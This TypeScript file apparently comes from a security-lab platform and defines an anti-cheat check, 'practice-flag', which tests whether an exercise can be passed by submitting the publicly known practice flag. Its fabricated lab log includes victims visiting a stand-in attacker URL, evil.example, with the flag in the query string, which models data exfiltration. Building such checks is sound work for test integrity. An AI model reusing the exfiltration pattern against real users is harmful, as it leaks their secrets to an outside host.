import type { LabLogEntry } from '@drawbridge/contracts/practice';
import { listVictims } from '../../../engine/browser/people.ts';
import type { GeneralCheat } from '../cheat.ts';
import { type AttackMaterial, toScript } from './material.ts';

/** The practice flag is known to everybody. */
export const practiceFlag: GeneralCheat<AttackMaterial> = {
  id: 'practice-flag',
  what: 'names the flag of the practice run',
  improve: 'write {{flag}} in the seed in every place, so that each learner has a flag of their own',
  submissions(material) {
    const { decoy, pack } = material;
    if (pack.goal?.by === 'script')
      return [{ name: 'found(…)', files: toScript(material, `found(${JSON.stringify(decoy)});\n`), log: [] }];
    const flag = encodeURIComponent(decoy);
    const log: LabLogEntry[] = [
      { method: 'GET', url: `/?q=${flag}`, headers: {}, body: '' },
      ...listVictims(pack).map(({ user }) => ({ victim: user, url: `https://evil.example/?${flag}` })),
    ];
    return [{ name: 'in addresses', files: [], log }];
  },
};
